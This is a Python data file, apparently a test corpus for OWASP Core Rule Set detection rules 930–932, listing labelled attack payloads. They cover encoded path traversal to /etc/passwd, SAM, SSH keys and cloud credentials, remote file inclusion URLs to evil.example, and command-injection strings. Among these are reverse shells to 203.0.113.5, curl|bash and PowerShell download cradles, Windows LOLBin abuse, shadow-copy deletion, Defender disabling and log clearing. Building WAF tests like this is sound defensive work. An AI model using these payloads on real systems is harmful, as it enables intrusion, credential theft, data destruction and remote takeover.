"""Blind attack batch X: branches and transformations of CRS 4.25 rules 930 (LFI), 931 (RFI), 932 (RCE)."""
from __future__ import annotations

BLIND_ATTACKS_X = [
    # --- 930100 encoded path traversal (raw URI, args, headers, files, XML) ---
    ("ptrav", "930100 CVE-2021-41773 Apache 2.4.49 .%2e traversal to /bin/sh", "raw", "",
     "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: curl/7.88.1\r\n"
     "Content-Type: text/plain\r\nContent-Length: 23\r\n\r\necho;id;uname -a;exit\r\n"),
    ("ptrav", "930100 CVE-2021-42013 Apache 2.4.50 double-encoded %%32%65 traversal", "raw", "",
     "GET /icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd HTTP/1.1\r\nHost: victim.example\r\n"
     "User-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"),
    ("ptrav", "930100 IIS double-decode ..%255c (CVE-2001-0333) to cmd.exe", "raw", "",
     "GET /scripts/..%255c..%255c..%255cwinnt/system32/cmd.exe?/c+dir+c:\\ HTTP/1.0\r\nHost: victim.example\r\n\r\n"),
    ("ptrav", "930100 IIS unicode overlong ..%c1%1c traversal (CVE-2000-0884)", "raw", "",
     "GET /msadc/..%c1%1c..%c1%1c..%c1%1c..%c1%1cwinnt/system32/cmd.exe?/c+ver HTTP/1.0\r\nHost: victim.example\r\n\r\n"),
    ("ptrav", "930100 overlong UTF-8 %c0%ae dot-dot in file argument (double-encoded)", "query", "file",
     "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini"),
    ("ptrav", "930100 %2e%2e%2f traversal double-encoded in download param", "query", "path",
     "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("ptrav", "930100 IIS %u-encoded dots/slash in X-Original-URL header", "header:X-Original-URL",
     "", "/static/%u002e%u002e%u2215%u002e%u002e%u2215web.config"),
    ("ptrav", "930100 encoded traversal in multipart upload filename", "multipart", "upload",
     "x%2f..%2f..%2f..%2fvar%2fwww%2fhtml%2fcmd.php"),
    ("ptrav", "930100 %5c-encoded backslash traversal in XML element", "body:application/xml", "documents",
     "<?xml version=\"1.0\"?><request><template>reports%5c..%5c..%5c..%5cboot.ini</template></request>"),
    ("ptrav", "930100 %252f double-encoded slash traversal in JSON", "json", "attachment",
     "..%252f..%252f..%252f..%252fetc%252fpasswd"),
    ("ptrav", "930100 .%00. nul-byte split dots in path segment (raw URI)", "raw", "",
     "GET /download.php?f=/.%00./.%00./.%00./etc/passwd HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),

    # --- 930110 decoded traversal after utf8toUnicode/urlDecodeUni/removeNulls/cmdLine ---
    ("ptrav", "930110 ..././ nested traversal surviving a single strip of ../", "query", "page",
     "..././..././..././..././etc/passwd"),
    ("ptrav", "930110 Tomcat ..;/ path-parameter bypass to manager", "path", "",
     "/app/..;/manager/html"),
    ("ptrav", "930110 Spring/Tomcat ..;/ to actuator via semicolon segment", "path", "",
     "/api/v1/..;/..;/actuator/env"),
    ("ptrav", "930110 %u002e%u002e%u002f IIS %u-encoding in query", "query", "file",
     "%u002e%u002e%u002f%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fshadow"),
    ("ptrav", "930110 fullwidth ．．／ dots/slash normalised by utf8toUnicode", "json", "filename",
     "．．／．．／．．／．．／etc／passwd"),
    ("ptrav", "930110 quotes inside shell path removed by cmdLine", "form", "host",
     "127.0.0.1;cat .\".\"/.\".\"/.\".\"/.\".\"/etc/passwd"),
    ("ptrav", "930110 ..../ triple-dot traversal in Cookie header", "cookie", "lang",
     ".../.../.../.../.../etc/passwd"),
    ("ptrav", "930110 traversal in X-File-Name upload header", "header:X-File-Name", "",
     "../../../../var/www/html/uploads/shell.php"),
    ("ptrav", "930110 traversal in XML attribute", "body:application/xml", "import",
     "<?xml version=\"1.0\"?><import><asset href=\"../../../../../etc/hosts\" type=\"text\"/></import>"),
    ("ptrav", "930110 removeNulls: dot-%00-dot slash sequence in form", "form", "doc",
     ".\x00./.\x00./.\x00./etc/passwd"),

    # --- 930120 OS file access (args, arg names, cookies, cookie names, XML) ---
    ("ptrav", "930120 /proc/self/environ LFI-to-RCE via environ", "query", "page",
     "/proc/self/environ"),
    ("ptrav", "930120 Apache access log poisoning include", "query", "lang",
     "/var/log/apache2/access.log"),
    ("ptrav", "930120 normalizePathWin: backslash Windows system32 config SAM", "form", "report",
     "C:\\Windows\\System32\\config\\SAM"),
    ("ptrav", "930120 IIS applicationHost.config via inetsrv", "json", "path",
     "c:\\windows\\system32\\inetsrv\\config\\applicationHost.config"),
    ("ptrav", "930120 SSH private key read from cookie value", "cookie", "theme",
     "../../../../root/.ssh/id_rsa"),
    ("ptrav", "930120 OS file as parameter NAME", "path", "",
     "/index.php?/etc/shadow=1"),
    ("ptrav", "930120 OS file as cookie NAME", "raw", "",
     "GET /account HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: Mozilla/5.0\r\n"
     "Cookie: ../../../../etc/passwd=1; sid=9f8c2d\r\n\r\n"),
    ("ptrav", "930120 AWS credentials file in XML element", "body:application/xml", "export",
     "<?xml version=\"1.0\"?><job><source>/home/ubuntu/.aws/credentials</source></job>"),
    ("ptrav", "930120 PostgreSQL .pgpass via %u-encoded slash", "query", "file",
     "..%u2215..%u2215home%u2215postgres%u2215.pgpass"),
    ("ptrav", "930120 Windows repair setup.log read", "query", "log",
     "..\\..\\..\\..\\windows\\repair\\setup.log"),
    ("ptrav", "930120 Apache envvars via php filter", "query", "view",
     "php://filter/convert.base64-encode/resource=/etc/apache2/envvars"),

    # --- 930121 OS files in Referer / User-Agent (PL2) ---
    ("ptrav", "930121 OS file path in User-Agent (log-poison probe)", "header:User-Agent", "",
     "Mozilla/5.0 (X11; Linux x86_64) ../../../../../../etc/passwd"),
    ("ptrav", "930121 Referer carrying LFI of win.ini", "header:Referer", "",
     "http://victim.example/index.php?page=..\\..\\..\\..\\windows\\win.ini"),
    ("ptrav", "930121 Referer with /proc/self/cmdline read", "header:Referer", "",
     "https://victim.example/view?file=/proc/self/cmdline"),
    ("ptrav", "930121 User-Agent with boot.ini probe", "header:User-Agent", "",
     "..\\..\\..\\..\\..\\boot.ini"),

    # --- 930130 restricted files in REQUEST_FILENAME ---
    ("ptrav", "930130 Vite dev server /@fs/ arbitrary read (CVE-2025-30208)", "path", "",
     "/@fs/etc/passwd?import&raw??"),
    ("ptrav", "930130 wp-config backup download", "path", "",
     "/wp-config.php.bak"),
    ("ptrav", "930130 .svn working copy database", "path", "",
     "/.svn/wc.db"),
    ("ptrav", "930130 .htpasswd fetch", "path", "",
     "/admin/.htpasswd"),
    ("ptrav", "930130 .npmrc token leak", "path", "",
     "/.npmrc"),
    ("ptrav", "930130 GitLab CI config", "path", "",
     "/.gitlab-ci.yml"),
    ("ptrav", "930130 .idea workspace leak", "path", "",
     "/.idea/workspace.xml"),
    ("ptrav", "930130 .envrc secrets with %-encoded dot", "raw", "",
     "GET /%2eenvrc HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: Mozilla/5.0 (compatible; Nuclei)\r\n\r\n"),
    # --- 930140 AI coding assistant artifacts in REQUEST_FILENAME ---
    ("ptrav", "930140 Claude Code local settings leak", "path", "", "/.claude/settings.local.json"),
    ("ptrav", "930140 Cursor MCP server config with tokens", "path", "", "/.cursor/mcp.json"),
    ("ptrav", "930140 Gemini CLI settings", "path", "", "/.gemini/settings.json"),
    ("ptrav", "930140 Codex config via %2e-encoded dot", "raw", "",
     "GET /%2ecodex/config.toml HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: python-requests/2.31.0\r\n\r\n"),
    ("ptrav", "930140 Continue.dev config", "path", "", "/app/.continue/config.json"),

    # --- 931100 RFI URL with IP address (ARGS, XML) ---
    ("rfi", "931100 RFI to raw IPv4 host payload", "query", "page", "http://198.51.100.23/shell.txt"),
    ("rfi", "931100 RFI via FTP to IP", "form", "template", "ftp://203.0.113.9/pub/r57.txt"),
    ("rfi", "931100 RFI to bracketed IPv6 literal", "json", "include",
     "https://[2001:db8:85a3::8a2e:370:7334]/inc/config.php"),
    ("rfi", "931100 RFI URL to IP in XML element", "body:application/xml", "plugins",
     "<?xml version=\"1.0\"?><plugin><source>http://192.0.2.44/c99.txt</source></plugin>"),
    ("rfi", "931100 urlDecodeUni: double-encoded RFI URL to IP", "query", "lang",
     "HTTP%3A%2F%2F203.0.113.77%2Fid.txt"),
    ("rfi", "931100 FTPS include from IP with credentials in XML attribute", "body:application/xml", "feed",
     "<?xml version=\"1.0\"?><feed src=\"ftps://198.51.100.200/x/shell.php\"/>"),

    # --- 931110 known RFI-vulnerable parameter names with URL ---
    ("rfi", "931110 Mambo/Joomla mosConfig_absolute_path RFI", "raw", "",
     "GET /components/com_galeria/galeria.php?mosConfig_absolute_path=http://evil.example/shell.txt? HTTP/1.1\r\n"
     "Host: victim.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),
    ("rfi", "931110 _SERVER[DOCUMENT_ROOT] override RFI", "path", "",
     "/include/header.php?_SERVER[DOCUMENT_ROOT]=http://evil.example/sh.txt?"),
    ("rfi", "931110 Gallery GALLERY_BASEDIR RFI in POST body", "form", "GALLERY_BASEDIR",
     "http://evil.example/cmd.txt?"),
    ("rfi", "931110 AppServ appserv_root RFI", "path", "",
     "/appserv/main.php?appserv_root=ftp://evil.example/inject.txt"),
    ("rfi", "931110 path[docroot] RFI (Geeklog-style)", "raw", "",
     "GET /lib/functions.php?path[docroot]=https://evil.example/r57.txt? HTTP/1.1\r\nHost: victim.example\r\n\r\n"),
    ("rfi", "931110 config[root_dir] RFI urlencoded brackets", "raw", "",
     "POST /modules/news/index.php HTTP/1.1\r\nHost: victim.example\r\n"
     "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 53\r\n\r\n"
     "config%5Broot_dir%5D=http://evil.example/x.txt%3F&a=1"),
    ("rfi", "931110 _CONF[path] RFI", "path", "",
     "/public_html/lib-common.php?_CONF[path]=http://evil.example/c.txt?"),

    # --- 931120 URL payload with trailing question mark ---
    ("rfi", "931120 RFI URL with trailing ? truncating suffix", "query", "module",
     "http://evil.example/shell.txt?"),
    ("rfi", "931120 RFI FTP with multiple trailing ??", "form", "inc", "ftp://evil.example/pub/c99.txt??"),
    ("rfi", "931120 HTTPS paste host RFI with ?", "json", "theme", "HTTPS://pastebin.com/raw/Xb7kQ2aP?"),
    ("rfi", "931120 file scheme include with ?", "query", "file", "file:///etc/passwd?"),

    # --- 931130 off-domain reference with dangerous scheme (PL2) ---
    ("rfi", "931130 PHP expect:// wrapper command", "query", "page", "expect://id"),
    ("rfi", "931130 data:// wrapper base64 PHP code", "form", "file",
     "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4="),
    ("rfi", "931130 phar:// deserialisation via uploaded avatar", "json", "image",
     "phar://uploads/avatars/1337.jpg/test.txt"),
    ("rfi", "931130 zip:// wrapper to shell inside upload", "query", "lang", "zip://uploads/doc.zip#shell"),
    ("rfi", "931130 gopher:// to internal Redis", "query", "url",
     "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22"),
    ("rfi", "931130 dict:// internal memcached probe", "form", "webhook", "dict://127.0.0.1:11211/stats"),
    ("rfi", "931130 jar: remote archive entry", "json", "resource", "jar:http://evil.example/evil.jar!/Exploit.class"),
    ("rfi", "931130 ssh2.exec wrapper command", "query", "src", "ssh2.exec://root:toor@evil.example:22/id"),
    ("rfi", "931130 compress.zlib wrapper on remote URL", "query", "tpl",
     "compress.zlib://http://evil.example/shell.gz"),
    ("rfi", "931130 SMB UNC-style include", "form", "path", "smb://evil.example/share/shell.php"),

    # --- 931131 scheme in the URL path (PL2) ---
    ("rfi", "931131 open proxy path with remote URL", "raw", "",
     "GET /proxy/http://evil.example/shell.txt HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),
    ("rfi", "931131 url-encoded remote URL in path segment", "raw", "",
     "GET /include/ftp%3A%2F%2Fevil.example%2Fc99.txt HTTP/1.1\r\nHost: victim.example\r\n\r\n"),
    ("rfi", "931131 gopher scheme in image fetch path", "raw", "",
     "GET /imageproxy/gopher://127.0.0.1:25/_HELO%20x HTTP/1.1\r\nHost: victim.example\r\n\r\n"),
    ("rfi", "931131 ldap scheme in path (JNDI-ish fetch)", "raw", "",
     "GET /fetch/ldap://evil.example:1389/Exploit HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),
    # --- 932230 Unix 2-3 char commands after a separator ---
    ("rce", "932230 xxd dump of shadow after ;", "query", "ip", "127.0.0.1;xxd /etc/shadow"),
    ("rce", "932230 tac after && in form", "form", "host", "example.com && tac /etc/passwd"),
    ("rce", "932230 pwd in $( ) in cookie", "cookie", "tz", "UTC$(pwd)"),
    ("rce", "932230 gcc compile implant after ||", "json", "filename", "x.c || gcc -o /tmp/.x /tmp/x.c"),
    ("rce", "932230 backslash-split scp exfil", "query", "target", "a;s\\c\\p /etc/shadow loot@203.0.113.5:/x/"),
    ("rce", "932230 ls after pipe in XML element", "body:application/xml", "diag",
     "<?xml version=\"1.0\"?><ping><host>10.0.0.1|ls -la /var/www</host></ping>"),
    ("rce", "932230 newline then ksh in parameter NAME", "raw", "",
     "GET /cgi-bin/diag.cgi?%0aksh%20-c%20id=1 HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),

    # --- 932235 Unix commands without evasion (long list) after separator ---
    ("rce", "932235 curl piped to bash after ;", "query", "domain", "x.example;curl -s http://203.0.113.5/i.sh|bash"),
    ("rce", "932235 mkfifo reverse shell", "form", "ip",
     "8.8.8.8; mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"),
    ("rce", "932235 python pty spawn via backtick", "json", "name",
     "`python3 -c 'import pty;pty.spawn(\"/bin/sh\")'`"),
    ("rce", "932235 base64 decode and execute", "cookie", "pref", "a;echo Y3VybCBldmlsLmV4YW1wbGUvc3xzaA==|base64 -d|sh"),
    ("rce", "932235 crontab persistence via newline", "form", "comment",
     "hi\n(crontab -l;echo '* * * * * /tmp/.k') | crontab -"),
    ("rce", "932235 nohup openssl reverse shell", "query", "cmd",
     "|nohup openssl s_client -quiet -connect 203.0.113.5:443|/bin/sh"),
    ("rce", "932235 env-prefixed perl one-liner", "query", "lang",
     "en;LC_ALL=C perl -e 'exec \"/bin/sh\"'"),

    # --- 932250 short command at value start ---
    ("rce", "932250 sed print of passwd at value start", "query", "expr", "sed -n 1,20p /etc/passwd"),
    ("rce", "932250 wc on shadow", "form", "cmd", "wc -l /etc/shadow"),
    ("rce", "932250 jq reading docker creds", "json", "filter", "jq -r . /root/.docker/config.json"),
    ("rce", "932250 ssh ProxyCommand injection (argument smuggled as value)", "query", "host",
     "ssh -oProxyCommand=\"sh -c 'id>/tmp/p'\" x"),
    ("rce", "932250 7z archive webroot for exfil", "cookie", "job", "7z a /tmp/w.7z /var/www/html"),

    # --- 932260 long command at value start ---
    ("rce", "932260 busybox nc reverse shell as value", "query", "c", "busybox nc 203.0.113.5 4444 -e /bin/sh"),
    ("rce", "932260 chmod setuid", "form", "action", "chmod 4755 /tmp/.sh"),
    ("rce", "932260 getent shadow dump", "json", "query", "getent shadow root"),
    ("rce", "932260 lsof network listing in XML", "body:application/xml", "tool",
     "<?xml version=\"1.0\"?><run><cmd>lsof -i -P -n</cmd></run>"),
    ("rce", "932260 lastlog as parameter NAME", "path", "", "/admin/exec.php?lastlog%20-u%20root=1"),

    # --- 932340 bare command with no arguments at end of value ---
    ("rce", "932340 ;whoami at end", "query", "name", "guest;whoami"),
    ("rce", "932340 |hostname at end", "form", "email", "a@b.example|hostname"),
    ("rce", "932340 &&dmesg", "json", "port", "22&&dmesg"),
    ("rce", "932340 newline ps", "form", "session", "abc\nps"),
    ("rce", "932340 ;iostat in User-Agent", "header:User-Agent", "", "Mozilla/5.0;iostat"),
    ("rce", "932340 ||psql in Referer", "header:Referer", "", "https://victim.example/report?id=1||psql"),

    # --- 932330 history invocation ---
    ("rce", "932330 re-run previous command !-1", "query", "q", "x;!-1"),
    ("rce", "932330 history expansion in cookie", "cookie", "cmd", "a&&!-2"),
    ("rce", "932330 history expansion in JSON", "json", "shell", "`!-3`"),

    # --- 932130 Unix shell expressions ---
    ("rce", "932130 $(( )) arithmetic expansion probe", "query", "n", "$((1337*7331))"),
    ("rce", "932130 ${IFS} space substitution", "form", "host", "127.0.0.1;cat${IFS}/etc/passwd"),
    ("rce", "932130 process substitution <( )", "json", "path", "<(curl -s evil.example/p.sh)"),
    ("rce", "932130 bracket glob /bin/c[a]t", "query", "f", "x;/bin/c[a]t /etc/passwd"),
    ("rce", "932130 $[ ] legacy arithmetic in cookie", "cookie", "v", "$[7*7]"),
    ("rce", "932130 ${PATH:0:1} slash building in XML", "body:application/xml", "conf",
     "<?xml version=\"1.0\"?><c><dir>${PATH:0:1}etc${PATH:0:1}passwd</dir></c>"),
    ("rce", "932130 cmdLine: quoted $( ) survives quote removal", "query", "u", "a$(\"w\"ho\"a\"mi)"),

    # --- 932270 / 932271 tilde expansion ---
    ("rce", "932270 ~+ current dir expansion", "query", "p", ";cat ~+/config.php"),
    ("rce", "932270 ~- previous dir expansion", "form", "dir", "x;ls ~-"),
    ("rce", "932271 ~N directory stack reference", "query", "d", ";cd ~1;cat .env"),
    ("rce", "932271 ~0 in JSON", "json", "w", "x;tar czf - ~0|nc 203.0.113.5 9"),

    # --- 932280 / 932281 brace expansion ---
    ("rce", "932280 {uname,-a} brace exec", "query", "ip", ";{uname,-a}"),
    ("rce", "932280 {ls,-la} in cookie", "cookie", "x", "$({ls,-la})"),
    ("rce", "932280 {id,} trailing comma", "form", "host", "1.1.1.1|{id,}"),
    ("rce", "932281 {wget,URL,-O,path} download", "query", "q",
     ";{wget,http://203.0.113.5/x.sh,-O,/tmp/x.sh};{sh,/tmp/x.sh}"),
    ("rce", "932281 {curl,-fsSL,host} in XML", "body:application/xml", "hook",
     "<?xml version=\"1.0\"?><hook url=\"`{curl,-fsSL,evil.example/k}|{bash,}`\"/>"),
    ("rce", "932281 {nc,host,port} in JSON", "json", "target", "a;{nc,203.0.113.5,4444,-e,/bin/bash}"),

    # --- 932160 Unix shell paths (unix-shell.data, cmdLine, normalizePath) ---
    ("rce", "932160 /usr/bin/python3 invocation", "query", "exec", "/usr/bin/python3 -c 'import os;os.system(\"id\")'"),
    ("rce", "932160 normalizePath: /bin/./../bin/bash", "form", "shell", "/bin/./../bin//bash -i"),
    ("rce", "932160 cmdLine: quotes inside /bin/s'h'", "json", "cmd", "/bin/s'h' -c id"),
    ("rce", "932160 backslash in /b\\in/ba\\sh", "query", "run", "/b\\in/ba\\sh -c uname"),
    ("rce", "932160 shell path as cookie value", "cookie", "tool", "/usr/bin/nc -lvp 4444 -e /bin/sh"),
    ("rce", "932160 sbin path in XML", "body:application/xml", "task",
     "<?xml version=\"1.0\"?><task><exec>/sbin/ifconfig</exec></task>"),

    # --- 932170 / 932171 Shellshock ---
    ("rce", "932170 Shellshock in custom header", "header:X-Api-Version", "",
     "() { _; } >_[$($())] { echo; /usr/bin/id; }"),
    ("rce", "932170 Shellshock in Referer", "header:Referer", "", "() {  ignored; }; /bin/bash -c 'sleep 5'"),
    ("rce", "932170 Shellshock in Cookie header (CVE-2014-6278 style)", "raw", "",
     "GET /cgi-bin/status.sh HTTP/1.1\r\nHost: victim.example\r\nCookie: () { :;}; /bin/cat /etc/shadow\r\n\r\n"),
    ("rce", "932170 urlDecodeUni: encoded Shellshock in header", "header:X-Forwarded-For", "",
     "%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fping%20-c1%20203.0.113.5"),
    ("rce", "932171 Shellshock in query arg", "query", "q", "() { :; }; echo; /usr/bin/id"),
    ("rce", "932171 Shellshock in form arg with tabs", "form", "name", "()\t{\t:;};\t/bin/bash -i >& /dev/tcp/203.0.113.5/80 0>&1"),

    # --- 932175 alias invocation ---
    ("rce", "932175 alias sudo hijack", "query", "q", "x;alias sudo='sudo sh -c \"curl -s evil.example/k|sh\";sudo'"),
    ("rce", "932175 alias with option -p", "form", "cmd", "a&&alias -p ls=id"),
    ("rce", "932175 quote-split a'li'as", "json", "v", "z;a'li'as ls='nc -e /bin/sh 203.0.113.5 9'"),

    # --- 932180 restricted file upload names ---
    ("rce", "932180 .htaccess upload to enable PHP in uploads", "multipart", "file", ".htaccess"),
    ("rce", "932180 .user.ini upload (auto_prepend_file)", "multipart", "avatar", ".user.ini"),
    ("rce", "932180 web.config upload via X-File-Name", "header:X-File-Name", "", "Web.config"),
    ("rce", "932180 php.ini upload via X-Filename", "header:X-Filename", "", "php.ini"),
    ("rce", "932180 IIS trailing-space web.config upload (removeWhitespace)", "multipart", "doc", "web.config "),
    # --- 932120 PowerShell cmdlets (windows-powershell-commands.data, cmdLine) ---
    ("rce", "932120 Invoke-WebRequest download to temp", "query", "url",
     "x; Invoke-WebRequest -Uri http://203.0.113.5/a.exe -OutFile C:\\Windows\\Temp\\a.exe"),
    ("rce", "932120 Add-Type inline C# loader", "form", "script",
     "Add-Type -TypeDefinition 'public class X{public static void R(){System.Diagnostics.Process.Start(\"cmd\");}}'"),
    ("rce", "932120 cmdLine: caret-split Get-Ch^ildItem", "json", "q", "& Get-Ch^ildItem -Path C:\\Users -Recurse"),
    ("rce", "932120 Set-MpPreference style Defender disable via Set-ItemProperty", "cookie", "ps",
     "Set-ItemProperty -Path HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows` Defender -Name DisableAntiSpyware -Value 1"),
    ("rce", "932120 Start-Process hidden in XML", "body:application/xml", "jobs",
     "<?xml version=\"1.0\"?><job><cmd>Start-Process -WindowStyle Hidden powershell -ArgumentList '-enc SQBFAFgA'</cmd></job>"),
    ("rce", "932120 quoted \"Remove-Item\" recursive wipe", "query", "task", "\"Remove-Item\" -Recurse -Force C:\\inetpub\\wwwroot"),

    # --- 932125 PowerShell aliases after separator ---
    ("rce", "932125 iwr alias download cradle", "query", "host", "a;iwr http://203.0.113.5/p.ps1 -useb|iex"),
    ("rce", "932125 gc alias reading web.config", "form", "name", "x|gc C:\\inetpub\\wwwroot\\web.config"),
    ("rce", "932125 gwmi process listing", "json", "ip", "127.0.0.1&&gwmi win32_process"),
    ("rce", "932125 icm script block", "cookie", "q", "z;icm -ScriptBlock {whoami}"),
    ("rce", "932125 ipmo PowerView", "query", "mod", "a&ipmo .\\PowerView.ps1"),
    ("rce", "932125 caret evasion g^c^i listing", "form", "dir", "x;g^c^i C:\\Users\\Public"),

    # --- 932140 Windows FOR / IF ---
    ("rce", "932140 for /f loop exfil of whoami", "query", "cmd",
     "for /f \"tokens=*\" %a in ('whoami') do curl http://203.0.113.5/?%a"),
    ("rce", "932140 for /l ping loop", "form", "ip", "& for /l %i in (1,1,254) do ping -n 1 10.0.0.%i"),
    ("rce", "932140 for /r recursive config dump", "json", "x", "|for /r c:\\ %f in (*.config) do type %f"),
    ("rce", "932140 if exist probe", "query", "path", "& if exist c:\\windows\\system32\\cmd.exe (echo VULN)"),
    ("rce", "932140 if /i string compare", "cookie", "os", "&if /i \"%OS%\"==\"Windows_NT\" calc"),
    ("rce", "932140 if errorlevel branch", "form", "chk", "&net user admin || if errorlevel 1 net user admin P@ss1 /add"),

    # --- 932370 Windows LOLBins after separator ---
    ("rce", "932370 certutil urlcache download", "query", "host",
     "a&certutil -urlcache -split -f http://203.0.113.5/n.exe %TEMP%\\n.exe"),
    ("rce", "932370 caret-split c^e^r^t^u^t^i^l", "form", "ip", "1.1.1.1&c^e^r^t^u^t^i^l -decode x.b64 x.exe"),
    ("rce", "932370 bitsadmin transfer", "json", "d", "|bitsadmin /transfer j /download /priority high http://evil.example/a.exe c:\\a.exe"),
    ("rce", "932370 mshta remote HTA", "query", "f", "x;mshta http://evil.example/p.hta"),
    ("rce", "932370 regsvr32 squiblydoo", "cookie", "c", "&regsvr32 /s /n /u /i:http://evil.example/f.sct scrobj.dll"),
    ("rce", "932370 full path rundll32 with quotes", "query", "t",
     "&\"C:\\Windows\\System32\\rundll32.exe\" javascript:\"\\..\\mshtml,RunHTMLApplication\""),
    ("rce", "932370 msbuild inline task in XML", "body:application/xml", "build",
     "<?xml version=\"1.0\"?><b><step>a&amp;msbuild.exe C:\\Windows\\Temp\\t.csproj</step></b>"),
    ("rce", "932370 forfiles indirect exec", "form", "q", "x|forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe"),

    # --- 932380 Windows admin commands after separator ---
    ("rce", "932380 vssadmin shadow deletion", "query", "ip", "8.8.8.8&vssadmin delete shadows /all /quiet"),
    ("rce", "932380 schtasks persistence", "form", "host",
     "x&&schtasks /create /sc minute /tn upd /tr \"c:\\users\\public\\u.exe\""),
    ("rce", "932380 reg save SAM", "json", "n", "|reg save hklm\\sam c:\\windows\\temp\\s"),
    ("rce", "932380 nltest domain trust recon", "cookie", "d", ";nltest /domain_trusts"),
    ("rce", "932380 wevtutil log clearing", "query", "log", "a&wevtutil cl Security"),
    ("rce", "932380 caret-split t^a^s^k^l^i^s^t", "form", "p", "x|t^a^s^k^l^i^s^t /v"),
    ("rce", "932380 icacls grant everyone", "query", "f", "&icacls c:\\inetpub\\wwwroot /grant Everyone:F /T"),

    # --- 932371 Windows at scheduler (PL2) ---
    ("rce", "932371 at scheduled job", "query", "time", "x&at 23:59 /every:M,T,W \"cmd /c c:\\users\\public\\b.bat\""),
    ("rce", "932371 at on remote host", "form", "h", "a;at \\\\10.0.0.5 12:00 c:\\temp\\x.exe"),
    ("rce", "932371 at.exe full name", "json", "c", "|at.exe 09:00 cmd.exe /c net user x P@ss /add"),

    # --- 932231 source command '.' (PL2) ---
    ("rce", "932231 source uploaded script with .", "query", "q", "x;. /tmp/upload/run.sh"),
    ("rce", "932231 source from stdin via $( )", "form", "v", "$(. /dev/stdin <<< 'id')"),
    ("rce", "932231 source after && in cookie", "cookie", "x", "1&&. ./evil"),

    # --- 932131 shell expressions in User-Agent / Referer (PL2) ---
    ("rce", "932131 $( ) in User-Agent (blind OAST)", "header:User-Agent", "", "Mozilla/5.0 $(nslookup ua.oast.example)"),
    ("rce", "932131 ${IFS} in Referer", "header:Referer", "", "https://victim.example/?x=;cat${IFS}/etc/passwd"),
    ("rce", "932131 process substitution in User-Agent", "header:User-Agent", "", "curl/8.0 >(sh -i >& /dev/tcp/203.0.113.5/8080 0>&1)"),

    # --- 932200 RCE bypass: quotes, wildcards, backslashes, $var splitting (PL2) ---
    ("rce", "932200 quote-split path c'a't /e'tc'/pa'ss'wd", "query", "file", "x;c'a't /e'tc'/pa'ss'wd"),
    ("rce", "932200 wildcard path /???/??t /???/p??s??", "form", "q", ";/???/??t /???/p??s??"),
    ("rce", "932200 backslash-split c\\at /et\\c/passwd", "json", "cmd", "c\\at /et\\c/pa\\sswd"),
    ("rce", "932200 empty var split ca$@t", "cookie", "c", "ca$@t /etc$u/passwd"),
    ("rce", "932200 backtick-nested path", "query", "p", "cat `echo /etc`/passwd"),
    ("rce", "932200 %u-encoded wildcard (urlDecodeUni)", "query", "q", ";/bin/c%u0061t /et?/pass*"),

    # --- 932205 / 932206 / 932207 bypass in Referer (PL2) ---
    ("rce", "932205 quote-split command in Referer query string", "header:Referer", "",
     "https://victim.example/status.php?ip=;c'a't /etc/pa'ss'wd"),
    ("rce", "932205 wildcard exec in Referer query", "header:Referer", "",
     "http://victim.example/ping?host=127.0.0.1;/???/n? -e /???/b??h 203.0.113.5 9"),
    ("rce", "932206 dotless Referer with wildcard exec", "header:Referer", "", "/???/c?t /???/s?ad*"),
    ("rce", "932206 Referer starting with backslash-split command", "header:Referer", "", "w\\ho\\ami /all"),
    ("rce", "932207 bypass hidden in Referer fragment", "header:Referer", "",
     "https://victim.example/app#;c'a't /etc/passwd"),
    ("rce", "932207 $var split in Referer fragment", "header:Referer", "",
     "https://victim.example/#x;/bin/c$@at /etc/shadow"),
    # --- 932220 command after a pipe (PL2) ---
    ("rce", "932220 pipe to id", "query", "ip", "127.0.0.1|id"),
    ("rce", "932220 pipe to nc bind shell", "form", "host", "test| nc -lvnp 31337 -e /bin/sh"),
    ("rce", "932220 pipe to ps aux in cookie", "cookie", "f", "a|ps aux"),
    ("rce", "932220 pipe to git config dump in XML attribute", "body:application/xml", "repo",
     "<?xml version=\"1.0\"?><repo name=\"x|git config --list\"/>"),
    ("rce", "932220 pipe to dig exfil", "json", "domain", "x.example|dig $(whoami).oast.example"),

    # --- 932240 mid-word evasion: quotes, brackets, $vars, `` (PL2) ---
    ("rce", "932240 double-quote split w\"h\"o\"am\"i", "query", "u", "w\"h\"o\"am\"i"),
    ("rce", "932240 empty quotes c''at", "form", "f", "c''at /etc/passwd"),
    ("rce", "932240 $* splitting who$*ami", "cookie", "c", "who$*ami"),
    ("rce", "932240 empty backticks wh``oami", "json", "n", "wh``oami"),
    ("rce", "932240 empty $() inside command", "query", "x", "una$()me -a"),
    ("rce", "932240 positional $1 split in XML", "body:application/xml", "q",
     "<?xml version=\"1.0\"?><q><term>ca$1t /et$1c/pas$1swd</term></q>"),

    # --- 932210 SQLite CLI dot-commands (PL2) ---
    ("rce", "932210 SQLite .shell command", "query", "sql", "select 1; .shell id"),
    ("rce", "932210 SQLite .system with quotes", "form", "q", "1; .system \"curl evil.example/x|sh\""),
    ("rce", "932210 SQLite .output webshell write", "json", "query",
     "x; .output /var/www/html/s.php"),
